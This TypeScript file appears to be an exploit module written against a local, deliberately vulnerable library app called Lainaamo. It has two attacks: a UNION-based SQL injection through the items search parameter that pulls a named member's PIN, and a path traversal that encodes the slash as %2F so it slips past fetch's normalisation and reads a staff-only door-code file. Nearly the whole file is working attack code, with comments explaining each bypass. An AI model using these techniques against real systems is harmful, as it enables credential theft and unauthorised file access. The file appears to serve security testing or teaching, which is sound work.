/** What the attacker knows. */
export interface Target {
  /** Where Lainaamo listens, such as `http://127.0.0.1:41234`. */
  url: string;
  /** The name of a member. */
  member: string;
}

/** What the attacker is after. */
export interface Loot {
  /** The member's PIN. */
  pin: string;
  /** The text of `manuals-staff/door-code.txt`, beside the folder of the manuals. */
  doorCode: string;
}

/** Takes from the vulnerable app what is for nobody outside. */
export async function attack(target: Target): Promise<Loot> {
  return { pin: await takePin(target), doorCode: await takeDoorCode(target) };
}

/** The quote ends the text of the search; what follows is SQL, and `--` takes the rest away. */
async function takePin({ url, member }: Target): Promise<string> {
  const address = new URL('/items', url);
  const ofMember = `SELECT 'pin', pin, 0 FROM members WHERE name = '${member}'`;
  address.searchParams.set('q', `nothing like this' UNION ${ofMember} --`);
  const answer = await fetch(address);
  const [loot] = (await answer.json()) as { name: string }[];
  return loot?.name ?? '';
}

/** `fetch` resolves `../` by itself. The slash written as %2F gets past it, and Express decodes it. */
async function takeDoorCode({ url }: Target): Promise<string> {
  const answer = await fetch(new URL('/manuals/..%2Fmanuals-staff%2Fdoor-code.txt', url));
  return answer.text();
}
